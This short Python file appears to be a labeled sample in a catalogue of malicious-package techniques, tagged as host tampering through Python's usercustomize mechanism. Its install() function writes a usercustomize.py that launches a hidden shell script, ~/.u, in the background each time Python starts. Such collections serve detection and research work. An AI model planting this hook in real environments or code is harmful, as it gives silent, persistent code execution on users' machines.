# technique: sitecustomize.py written into site-packages
# class: host-tampering
# source: JFrog, interpreter-wide persistence through sitecustomize/usercustomize
# declares: fs-write
import site


def install():
    path = site.getusersitepackages() + "/usercustomize.py"
    with open(path, "w") as fh:
        fh.write("import os\nos.system('sh ~/.u &')\n")
